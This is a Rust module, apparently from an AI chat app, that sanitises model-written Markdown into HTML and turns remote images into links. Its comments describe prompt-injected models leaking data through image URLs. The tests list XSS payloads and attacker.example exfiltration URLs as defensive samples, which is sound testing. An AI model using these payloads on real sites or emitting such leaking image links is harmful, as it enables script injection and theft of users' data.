//! Markdown from the model, rendered safely: pulldown-cmark parses it and [`safe_html`] writes
//! only its own harmless tags, with any raw HTML in the source escaped as text and only
//! http(s), `mailto:` and relative links. Nothing the model writes can put a script, an event
//! handler or a `javascript:` URL into the page. Runs the same on the server (history) and in
//! the browser (streaming); on the server ammonia checks the result once more (it is not in the
//! browser's build, which it would double). Code is coloured afterwards, in the browser only
//! (see [`crate::highlight`]).
//!
//! Nor can it make the browser fetch anything from elsewhere: an image is shown only when it is
//! on our own origin or inline (`data:image/…`). Any other image becomes a link showing its alt
//! text and URL, followed only if the user clicks it — a prompt-injected model could otherwise
//! send what it read to `![x](https://attacker/?d=…)` with no click. (The page's CSP forbids
//! such images too; this keeps them readable instead of broken.)

mod safe_html;
#[cfg(all(test, feature = "ssr"))]
mod same_html_tests;
mod web_url;

use self::web_url::UrlKind;
use crate::highlight;
use pulldown_cmark::{CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};

/// Renders Markdown to sanitised HTML. Code blocks get a copy button, their language as a label,
/// and (in the browser, just after) colours: see [`highlight`].
pub fn render(markdown: &str) -> String {
    finish(render_unchecked(markdown))
}

/// The HTML of `markdown` as [`safe_html`] writes it, before the server's second check and the
/// code blocks' frames.
fn render_unchecked(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut events = Vec::new();
    let mut remote: Option<RemoteImage> = None;
    let mut links = 0_usize;
    for event in Parser::new_ext(markdown, options) {
        if let Some(image) = &mut remote {
            match event {
                Event::Start(Tag::Image { .. }) => image.nested += 1,
                Event::End(TagEnd::Image) if image.nested > 0 => image.nested -= 1,
                Event::End(TagEnd::Image) => {
                    if let Some(image) = remote.take() {
                        image.push_as_link(&mut events, links > 0);
                    }
                }
                Event::Text(text) | Event::Code(text) => image.alt.push_str(&text),
                Event::SoftBreak | Event::HardBreak => image.alt.push(' '),
                _ => {}
            }
            continue;
        }
        match event {
            Event::Start(Tag::Image { dest_url, .. }) if !is_local_image(&dest_url) => {
                remote = Some(RemoteImage { url: dest_url.into_string(), alt: String::new(), nested: 0 });
            }
            event @ Event::Start(Tag::Link { .. }) => {
                links += 1;
                events.push(event);
            }
            event @ Event::End(TagEnd::Link) => {
                links = links.saturating_sub(1);
                events.push(event);
            }
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) => {
                if info.split_whitespace().next().is_some() {
                    highlight::schedule();
                }
                events.push(Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))));
            }
            // Raw HTML becomes visible text, never markup ([`safe_html`] holds to that too).
            Event::Html(html) | Event::InlineHtml(html) => events.push(Event::Text(html)),
            other => events.push(other),
        }
    }
    safe_html::write(events)
}

/// On the server, ammonia checks the HTML once more; then our own, fixed markup goes around code
/// blocks (after the check: the model's text can only ever be inside `<pre>`, escaped).
fn finish(html: String) -> String {
    frame_code_blocks(&second_check(html))
}

/// Renders source code as one sanitised block with a copy button, highlighted like a Markdown one.
pub fn code(language: &str, code: &str) -> String {
    if !language.is_empty() {
        highlight::schedule();
    }
    finish(safe_html::normalise(highlight::block(language, code)))
}

/// An image from elsewhere, being collected to be shown as a link.
struct RemoteImage {
    url: String,
    alt: String,
    /// Images inside its alt text (they are text there).
    nested: usize,
}

impl RemoteImage {
    /// `alt (url)` as a link to the image (as plain text inside another link). An image whose
    /// URL is not absolute http(s) (`javascript:`, `//host/…`) leaves only its alt text.
    fn push_as_link(self, events: &mut Vec<Event<'_>>, inside_a_link: bool) {
        let alt = self.alt.trim();
        let web = matches!(web_url::classify(&self.url).scheme(), Some("http" | "https"));
        if !web {
            events.push(Event::Text(CowStr::from(if alt.is_empty() { "(image)" } else { alt }.to_owned())));
            return;
        }
        let label = if alt.is_empty() { self.url.clone() } else { format!("{alt} ({})", self.url) };
        if inside_a_link {
            events.push(Event::Text(CowStr::from(label)));
            return;
        }
        events.push(Event::Start(Tag::Link {
            link_type: LinkType::Inline,
            dest_url: CowStr::from(self.url),
            title: CowStr::from("Image from another site, not loaded"),
            id: CowStr::from(""),
        }));
        events.push(Event::Text(CowStr::from(label)));
        events.push(Event::End(TagEnd::Link));
    }
}

/// Where on our origin an image may come from: the user's uploaded files and attachments. Any
/// other path of ours is not an image, and loading it would make the reader's browser call it
/// (`/api/library.zip` builds an archive of everything; `/api/account/export` spends their
/// exports): a reply, or a shared page, could make every reader do that.
const IMAGE_PATHS: [&str; 2] = ["/api/files/", "/api/attachments/"];

/// Whether the page may load an image from `url`: inline image data, or a URL that resolves
/// (the way a browser resolves it: tabs and newlines dropped, `\` read as `/`, dot segments
/// removed) to one of our [`IMAGE_PATHS`].
pub fn is_local_image(url: &str) -> bool {
    match web_url::classify(url) {
        UrlKind::Absolute { scheme, path } => is_data_image(&scheme, &path),
        UrlKind::Relative => web_url::path_on_origin_of(url, "https://jarvis.invalid/app")
            .is_some_and(|path| IMAGE_PATHS.iter().any(|prefix| path.starts_with(prefix))),
        UrlKind::Invalid => false,
    }
}

fn is_data_image(scheme: &str, path: &str) -> bool {
    scheme == "data" && path.get(..6).is_some_and(|kind| kind.eq_ignore_ascii_case("image/"))
}

/// Defence in depth on the server: ammonia keeps only harmless tags, attributes and URL schemes.
/// [`safe_html`] writes nothing it would change (a test holds the two to that, so server and
/// browser HTML stay identical for hydration); it is here in case that ever stops being true.
#[cfg(feature = "ssr")]
fn second_check(html: String) -> String {
    let clean = ammonia::Builder::default()
        // `data:` only for an image's inline bytes (the filter below drops it everywhere else).
        .url_schemes(["http", "https", "mailto", "data"].into_iter().collect())
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("img", "src") => is_local_image(value).then(|| value.into()),
            _ if web_url::classify(value).scheme() == Some("data") => None,
            _ => Some(value.into()),
        })
        .link_rel(Some("noopener noreferrer nofollow"))
        .add_tag_attributes("code", ["class"])
        .add_tag_attributes("span", ["class"])
        .add_tag_attributes("input", ["type", "checked", "disabled"])
        .add_tags(["input"])
        .clean(&html)
        .to_string();
    if clean != html {
        tracing::warn!("ammonia changed rendered Markdown; the browser's HTML will differ");
    }
    clean
}

/// In the browser the HTML is used as written: see the server's [`second_check`].
#[cfg(not(feature = "ssr"))]
fn second_check(html: String) -> String {
    html
}

/// Puts every code block in a frame with its language's label (when it has one) and a "Copy"
/// button. The label comes from the block's class, which [`highlight::language_class`] limits to letters,
/// digits, `-` and `+`, and is escaped all the same.
fn frame_code_blocks(html: &str) -> String {
    const LANGUAGE: &str = r#"<code class="language-"#;
    let mut out = String::with_capacity(html.len() + 128);
    let mut rest = html;
    while let Some(at) = rest.find("<pre>") {
        out.push_str(&rest[..at]);
        rest = &rest[at + "<pre>".len()..];
        out.push_str(r#"<div class="code-block">"#);
        let language =
            rest.strip_prefix(LANGUAGE).and_then(|tail| tail.split_once('"')).map(|(name, _)| name);
        if let Some(language) = language.filter(|name| !name.is_empty()) {
            out.push_str(&format!(r#"<span class="code-lang">{}</span>"#, escape_text(language)));
        }
        out.push_str(r#"<button type="button" class="copy-code" data-copy-code="" aria-live="polite">Copy</button><pre>"#);
    }
    out.push_str(rest);
    out.replace("</pre>", "</pre></div>")
}

/// `text` escaped for HTML text or a quoted attribute.
fn escape_text(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    #[test]
    fn only_the_users_files_and_attachments_are_images_of_ours() {
        assert!(super::is_local_image("/api/files/0b9c5c1e-4a1b-4d1c-9b8e-2f0c7c2d1a11"));
        assert!(super::is_local_image("/api/attachments/0b9c5c1e-4a1b-4d1c-9b8e-2f0c7c2d1a11/preview"));
        assert!(super::is_local_image("data:image/png;base64,iVBORw0KGgo="));
        for other in [
            "/api/library.zip",
            "/api/account/export",
            "/api/files/../library.zip",
            "/api/files/%2e%2e/library.zip",
            "\\api\\library.zip",
            "library.zip",
            "//evil.example/api/files/x.png",
            "https://evil.example/api/files/x.png",
            "data:text/html;base64,PHNjcmlwdD4=",
        ] {
            assert!(!super::is_local_image(other), "{other}");
        }
    }

    #[test]
    fn ordinary_markdown_renders() {
        let html = render(
            "# Title\n\n**bold** and `code`\n\n```rust\nfn main() {}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        );
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains(r#"<code class="language-rust">"#), "{html}");
        assert!(html.contains("<table>"));
    }

    #[test]
    fn code_blocks_are_escaped_left_for_the_browser_highlighter_and_get_a_copy_button() {
        let html = render("```rust\nfn f<'a>(s: &'a str) { let s = \"<b>\"; // hi\n}\n```");
        assert!(
            html.contains(r#"<button type="button" class="copy-code" data-copy-code="" aria-live="polite">Copy</button>"#),
            "{html}"
        );
        // The source, escaped and whole, inside the language's class: no markup of ours that a
        // highlighter would have to read around, identical on the server and in the browser.
        assert!(
            html.contains(
                "<pre><code class=\"language-rust\">fn f&lt;'a&gt;(s: &amp;'a str) { let s = \"&lt;b&gt;\"; // hi\n}\n</code></pre>"
            ),
            "{html}"
        );
        assert!(!html.contains("<span class=\"hl-"), "{html}");
        // Language names with `#` and `+` keep their meaning.
        assert!(render("```C#\nx\n```").contains(r#"<code class="language-Csharp">"#));
        assert!(render("```c++\nx\n```").contains(r#"<code class="language-c++">"#));
    }

    #[test]
    fn a_document_of_code_is_one_framed_escaped_block() {
        let html = code("python", "s = \"a \\\" b\"  # <c>");
        assert!(
            html.starts_with(r#"<div class="code-block"><span class="code-lang">python</span>"#),
            "{html}"
        );
        assert!(
            html.contains("<code class=\"language-python\">s = \"a \\\" b\"  # &lt;c&gt;</code>"),
            "{html}"
        );
        assert!(html.ends_with("</pre></div>"), "{html}");
    }

    #[test]
    fn a_code_block_is_labelled_with_its_language_and_a_block_without_one_is_not() {
        let html = render("```rust\nfn main() {}\n```\n\n```\nplain\n```");
        assert_eq!(html.matches(r#"<span class="code-lang">rust</span>"#).count(), 1, "{html}");
        assert_eq!(html.matches("code-lang").count(), 1, "{html}");
        assert_eq!(html.matches(r#"data-copy-code="""#).count(), 2, "{html}");
        assert_eq!(html.matches(r#"<div class="code-block">"#).count(), 2, "{html}");
    }

    #[test]
    fn a_hostile_language_name_cannot_break_out_of_its_label() {
        let html = render("```\"><img src=x onerror=alert(1)>&amp;\nx\n```");
        assert_inert("language", &html);
        assert!(!html.contains("<img"), "{html}");
        let label =
            html.split(r#"<span class="code-lang">"#).nth(1).and_then(|tail| tail.split_once("</span>"));
        if let Some((label, _)) = label {
            assert!(label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '+'), "{label}");
        }
        assert_eq!(escape_text(r#"<b a="1">&"#), "&lt;b a=&quot;1&quot;&gt;&amp;");
    }

    #[test]
    fn a_remote_image_becomes_a_link_and_a_local_or_inline_one_stays() {
        let html = render("Look: ![the chart](https://attacker.example/p.png?d=secret \"t\") here");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains(r#"href="https://attacker.example/p.png?d=secret""#), "{html}");
        assert!(html.contains(">the chart (https://attacker.example/p.png?d=secret)</a>"), "{html}");
        assert!(html.contains("noopener"), "{html}");

        // Forms a browser reads as another host are links too.
        // (In Markdown, `\\` is one backslash.)
        for url in [
            "//attacker.example/p.png",
            "/\t/attacker.example/p.png",
            r"\\\\attacker.example/p.png",
            r"/\\attacker.example/p.png",
            "http://127.0.0.1:9/p.png",
        ] {
            let html = render(&format!("![x]({url})"));
            assert!(!html.contains("<img"), "{url}: {html}");
        }
        // Inside a link it is plain text (no link in a link); in the alt text of an image, text.
        let html = render("[![logo](https://attacker.example/l.png)](https://example.com)");
        assert!(!html.contains("<img"), "{html}");
        assert_eq!(html.matches("<a ").count(), 1, "{html}");
        let html = render("![a ![b](https://x.example/b.png) c](https://y.example/a.png)");
        assert!(!html.contains("<img") && html.contains("y.example/a.png"), "{html}");

        let local = render("![plot](/api/files/0b5e4a7e-0000-4000-8000-000000000000)");
        assert!(
            local.contains(r#"<img src="/api/files/0b5e4a7e-0000-4000-8000-000000000000" alt="plot">"#),
            "{local}"
        );
        let inline = render("![dot](data:image/png;base64,iVBORw0KGgo=)");
        assert!(inline.contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">"#), "{inline}");
        // `data:` stays only on an image, and only image data.
        assert!(!render("![x](data:text/html;base64,PHNjcmlwdD4=)").contains("<img"));
        assert!(!render("[x](data:image/png;base64,iVBORw0KGgo=)").contains("data:"));
    }

    #[test]
    fn links_keep_safe_schemes_and_gain_rel() {
        let html = render("[site](https://example.com)");
        assert!(html.contains(r#"href="https://example.com""#), "{html}");
        assert!(html.contains("noopener"));
    }

    /// A corpus of XSS payloads a model could be tricked into writing.
    pub(crate) const PAYLOADS: &[&str] = &[
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](  javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](vbscript:msgbox(1))",
        "![x](javascript:alert(1))",
        "![x](https://attacker.example/?d=secret)",
        "![x](//attacker.example/p.png)",
        "<img src=\"https://attacker.example/p.png\">",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "```\n</code><script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "<<script>script>alert(1)<</script>/script>",
        "[x](https://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<object data=\"javascript:alert(1)\"></object>",
    ];

    /// The real tags of rendered HTML (escaped text holds `&lt;`, never `<`).
    fn tags(html: &str) -> Vec<String> {
        html.split('<')
            .skip(1)
            .map(|rest| rest.split('>').next().unwrap_or_default().to_ascii_lowercase())
            .collect()
    }

    #[test]
    fn no_payload_leaves_a_script_a_handler_or_a_dangerous_url() {
        for payload in PAYLOADS {
            assert_inert(payload, &render(payload));
        }
    }

    /// Fails unless `html` holds no script, embedding, event handler, inline style or a URL with
    /// a scheme other than http(s)/mailto.
    pub(crate) fn assert_inert(payload: &str, html: &str) {
        {
            for tag in tags(html) {
                let name =
                    tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default().to_owned();
                assert!(
                    !["script", "iframe", "object", "embed", "form", "svg", "math", "style", "details"]
                        .contains(&name.as_str()),
                    "{payload} → <{tag}>"
                );
                // Attribute names: the tag with its quoted values taken out.
                let names: String = tag.split('"').step_by(2).collect();
                assert!(!names.contains(" on") && !names.contains("style="), "{payload} → <{tag}>");
                // URL values.
                if let Some(value) = tag.split("href=\"").nth(1).and_then(|rest| rest.split('"').next()) {
                    let value = value.trim();
                    assert!(
                        value.starts_with("http://")
                            || value.starts_with("https://")
                            || value.starts_with("mailto:")
                            || value.starts_with('#'),
                        "{payload} → <{tag}>"
                    );
                }
                // Images only from our own origin or inline image data: nothing is fetched
                // from elsewhere.
                if let Some(value) = tag.split("src=\"").nth(1).and_then(|rest| rest.split('"').next()) {
                    assert!(is_local_image(value.trim()), "{payload} → <{tag}>");
                }
            }
        }
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        let html = render("<b>bold?</b>");
        assert!(html.contains("&lt;b&gt;bold?&lt;/b&gt;"), "{html}");
    }
}
